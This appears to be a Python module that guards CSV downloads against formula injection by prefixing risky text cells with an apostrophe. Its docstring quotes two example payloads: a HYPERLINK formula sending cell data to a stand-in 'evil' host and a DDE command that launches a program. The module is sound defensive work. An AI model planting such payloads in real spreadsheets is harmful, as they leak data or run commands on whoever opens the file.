"""CSV cells that a spreadsheet opens as text, never as a formula (CSV or "formula" injection).

Learners type answer text and course authors name problems and videos; a cell such as
`=HYPERLINK("http://evil/?"&A1)` or `=cmd|' /C calc'!A0` in a downloaded CSV is run by Excel,
LibreOffice or Google Sheets when the file is opened. OWASP's rule, applied to every CSV the
project writes for people (the dashboard's downloads and the API's `text/csv`): a text cell that
starts with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`, which spreadsheets
read as "this is text" and do not show.

Numbers stay numbers: int, float and Decimal values are written as they are, negative ones
included (`-3` is a number, not a formula). A *string* is neutralised by its first character,
except a string that is exactly a plain decimal number (`-3`, `-0.5`, `+1`): a spreadsheet reads
it as that number and nothing else, so it is kept as it is. `-1+1`, `+1e3` or `-0x1` are not plain
numbers and get the `'`.

Not for the result loader's LOAD DATA file (edinsights.results.loader): that CSV is a transport
into MySQL and must stay byte-exact.
"""

from __future__ import annotations

import re
from decimal import Decimal
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""A cell starting with one of these is a formula (or a DDE command) to a spreadsheet."""

_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)")
"""`-3`, `+1`, `-0.5`, `12.`: read by every spreadsheet as just that number."""


def safe_cell(value: Any) -> Any:
    """`value` as a CSV cell that no spreadsheet evaluates; numbers and other non-text unchanged."""
    if isinstance(value, bool | int | float | Decimal) or not isinstance(value, str):
        return value
    if value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_row(values: Any) -> list[Any]:
    """Every cell of a row through `safe_cell`."""
    return [safe_cell(value) for value in values]
